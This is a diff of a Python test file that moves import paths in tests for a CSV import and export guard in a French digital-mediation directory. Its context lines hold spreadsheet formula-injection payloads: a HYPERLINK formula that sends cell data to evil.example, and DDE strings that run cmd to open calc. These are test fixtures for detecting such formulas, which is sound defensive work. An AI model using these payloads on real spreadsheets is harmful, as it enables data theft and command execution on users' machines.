@@ -18,9 +18,9 @@ from coordination.core.csv_writer import FORMULA_MESSAGE as MESSAGE
 from coordination.core.csv_writer import safe_cell, starts_like_formula, without_guard
 from coordination.testing.factories import make_member, make_organisation, make_place, make_user
 from export import publish
-from coordination.directory.imports import importing
+from coordination.directory import imports
 from tests.directory.conftest import form_data
-from tests.export.test_import import csv_text, row
+from tests.directory.imports.helpers import csv_text, row
 
 CSV = "lieux-de-mediation-numerique.csv"
 FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1;"Cliquez")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
@@ -121,7 +121,7 @@ def test_an_import_flags_a_formula_and_keeps_the_place(db, tmp_path):
     coordinator = make_user("coordination@exemple.fr", coordinator=True)
     path = tmp_path / "lieux.csv"
     path.write_text(csv_text([row(nom="=HYPERLINK(\"https://evil.example\")")]), encoding="utf-8")
-    outcome = importing.apply_file(path, actor=coordinator)
+    outcome = imports.apply_file(path, actor=coordinator)
     assert outcome.report.applied
     (warning,) = [p for p in outcome.problems if p.column == "nom"]
     assert warning.severity == "warning" and "formule de tableur" in warning.message
@@ -136,7 +136,7 @@ def test_a_maillage_csv_round_trips_through_its_guard(db, open_data_dir, tmp_pat
     assert "'- accueil" in text
     copy = tmp_path / "copie.csv"
     copy.write_text(text, encoding="utf-8")
-    outcome = importing.apply_file(copy, actor=make_user("coordination@exemple.fr", coordinator=True))
+    outcome = imports.apply_file(copy, actor=make_user("coordination@exemple.fr", coordinator=True))
     assert outcome.report.applied and not [p for p in outcome.problems if p.severity == "error"]
     db.session.expire_all()
     stored = db.session.get(Place, place.id)
